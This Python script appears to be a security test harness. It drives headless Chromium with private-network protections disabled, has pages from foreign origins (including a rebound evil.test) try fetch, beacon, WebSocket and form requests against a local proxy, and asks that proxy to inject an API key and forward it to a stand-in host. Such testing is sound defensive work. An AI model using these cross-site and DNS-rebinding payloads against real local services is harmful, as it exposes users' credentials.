"""Drives a headless Chromium through its DevTools: argv is the proxy's port and the URL of the server that the proxy
would send a secret to. Prints the results of each page as JSON.

The pages are given to the browser by their address, as if their server had sent them, while every name of theirs
leads to the loopback: so does a name that was bound anew after the page was loaded."""
import base64, itertools, json, re, subprocess, sys, tempfile, threading

from websockets.sync.client import connect

port, target = sys.argv[1], sys.argv[2]
PAGE = "<!DOCTYPE html><title>page</title><body></body>"
ATTACK = """
(async () => {
  const at = (path) => `http://BASE${path}`;
  const headers = { "X-AS-Target-URL": URL_, "X-AS-Inject-Bearer": "API_KEY" };
  const seen = {};
  const attempt = async (name, what) => {
    const late = new Promise((_, no) => setTimeout(() => no(new Error("late")), 5000));
    try { seen[name] = await Promise.race([what(), late]); } catch (error) { seen[name] = error.name; }
  };
  const fetched = async (...asked) => {
    const answer = await fetch(...asked);
    return answer.type === "opaque" ? "opaque" : `${answer.status} ${await answer.text()}`;
  };
  await attempt("health", () => fetched(at("/health")));
  await attempt("proxy", () => fetched(at("/proxy"), { headers }));
  await attempt("proxy by POST", () => fetched(at("/proxy"), { method: "POST", headers, body: "a" }));
  await attempt("proxy without headers", () => fetched(at("/proxy")));
  await attempt("health, not to be read", () => fetched(at("/health"), { mode: "no-cors" }));
  await attempt("proxy, not to be read", () => fetched(at("/proxy"), { mode: "no-cors", method: "POST", body: "a" }));
  await attempt("beacon", async () => { navigator.sendBeacon(at("/proxy"), "a"); return "sent"; });
  await attempt("image", () => new Promise((yes, no) => {
    const image = new Image(); image.onload = () => yes("loaded"); image.onerror = () => yes("broken"); image.src = at("/health");
  }));
  await attempt("script", () => new Promise((yes, no) => {
    const script = document.createElement("script"); script.onload = () => yes("loaded"); script.onerror = () => yes("broken");
    script.src = at("/health"); document.body.append(script);
  }));
  await attempt("WebSocket", () => new Promise((yes, no) => {
    const socket = new WebSocket(`ws://BASE/proxy`); socket.onopen = () => yes("open"); socket.onerror = () => yes("broken");
  }));
  await attempt("form", () => new Promise((yes, no) => {
    const frame = document.createElement("iframe"); frame.name = "into"; document.body.append(frame);
    const form = document.createElement("form"); form.action = at("/proxy"); form.method = "POST"; form.target = "into";
    const field = document.createElement("input"); field.name = "X-AS-Target-URL"; field.value = URL_; form.append(field);
    document.body.append(form);
    frame.onload = () => { let text; try { text = frame.contentDocument.body.innerText; } catch { text = "unreadable"; } yes(text); };
    form.submit();
  }));
  return JSON.stringify(seen);
})()
"""

profile = tempfile.TemporaryDirectory()
browser = subprocess.Popen(
    ["/usr/bin/chromium-headless-shell", "--no-sandbox", "--remote-debugging-port=0", f"--user-data-dir={profile.name}",
     "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
     # Older browsers allow what newer ones block.
     "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades",
     "--host-resolver-rules=MAP *.test 127.0.0.1", "about:blank"],
    stderr=subprocess.PIPE, stdout=subprocess.DEVNULL, text=True)
try:
    for line in browser.stderr:
        found = re.search(r"DevTools listening on (ws://\S+)", line)
        if found:
            break
    threading.Thread(target=browser.stderr.read, daemon=True).start()
    with connect(found[1], max_size=None, proxy=None, compression=None) as line:
        numbers = itertools.count(1)

        def handle(event):
            """An intercepted request: the page itself is supplied, all else goes to the network."""
            if event.get("method") == "Fetch.requestPaused":
                asked = event["params"]
                if asked["request"]["url"].endswith("/page"):
                    body = base64.b64encode(PAGE.encode()).decode()
                    send("Fetch.fulfillRequest", event["sessionId"], requestId=asked["requestId"], responseCode=200, body=body,
                         responseHeaders=[{"name": "Content-Type", "value": "text/html"}])

        def send(method, session=None, **parameters):
            number = next(numbers)
            line.send(json.dumps({"id": number, "method": method, "params": parameters, **({"sessionId": session} if session else {})}))
            return number

        def command(method, session=None, **parameters):
            number = send(method, session, **parameters)
            while True:
                event = json.loads(line.recv(timeout=60))
                if event.get("id") == number:
                    assert "error" not in event, event
                    return event["result"]
                handle(event)

        def evaluate(session, text):
            done = command("Runtime.evaluate", session, expression=text, awaitPromise=True, returnByValue=True)
            assert "exceptionDetails" not in done, done
            return done["result"]["value"]

        def navigate(url):
            """A tab that has loaded `url`."""
            tab = command("Target.createTarget", url="about:blank")["targetId"]
            session = command("Target.attachToTarget", targetId=tab, flatten=True)["sessionId"]
            command("Fetch.enable", session, patterns=[{"urlPattern": "*/page"}])
            command("Page.enable", session)
            command("Page.navigate", session, url=url)
            for _ in range(200):
                state = evaluate(session, "location.href + ' ' + document.readyState")
                if state == f"{url} complete":
                    return session
            raise AssertionError(state)

        def attacked(origin, base, spent_at):
            session = navigate(f"http://{origin}/page")
            return json.loads(evaluate(session, ATTACK.replace("BASE", base).replace("URL_", json.dumps(spent_at))))

        seen = {
            # The operator types the address.
            "typed": evaluate(navigate(f"http://127.0.0.1:{port}/health"), "document.body.innerText"),
            "elsewhere": attacked("page.test:8080", f"127.0.0.1:{port}", target),
            "of this machine": attacked("localhost:8080", f"localhost:{port}", target),
            "bound anew": attacked(f"evil.test:{port}", f"evil.test:{port}", target),
            "bound anew, to itself": attacked(f"evil.test:{port}", f"evil.test:{port}", f"https://evil.test:{port}/"),
        }
    print(json.dumps(seen))
finally:
    browser.kill()
    browser.wait()
